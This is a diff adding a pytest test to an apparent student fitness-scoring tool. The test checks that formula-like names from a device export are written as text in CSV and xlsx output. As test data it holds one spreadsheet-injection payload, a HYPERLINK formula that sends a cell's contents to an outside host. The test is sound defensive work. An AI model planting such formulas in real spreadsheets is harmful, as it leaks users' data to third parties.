@@ -205,3 +205,22 @@ def test_odd_cells_get_a_reason():
     assert not scored.reasons[3]
     assert scored.item_scores["run_1000m_s"][3] == scoring.score(
         "student-2014", "male", grade="junior-1", measurements={"run_1000m_s": 210}).items[-1].score
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_scored_output_writes_formula_like_names_as_text(tmp_path, suffix):
+    """Issue 15, item 4: a device export's name cell like =HYPERLINK(...) comes out as text."""
+    src, out = tmp_path / "export.xlsx", tmp_path / f"scored{suffix}"
+    hostile = '=HYPERLINK("http://e.cn/?"&A2,"详")'
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADERS)
+    ws.append([ROWS[0][0], hostile, *ROWS[0][2:]])
+    ws.cell(2, 2).data_type = "s"  # typed as text in the device's file
+    wb.save(src)
+    run(src, out)
+    if suffix == ".csv":
+        assert read_output(out)[1][0][1] == "'" + hostile
+    else:
+        cell = load_workbook(out).active.cell(2, 2)
+        assert cell.value == hostile and cell.data_type == "s" and cell.quotePrefix
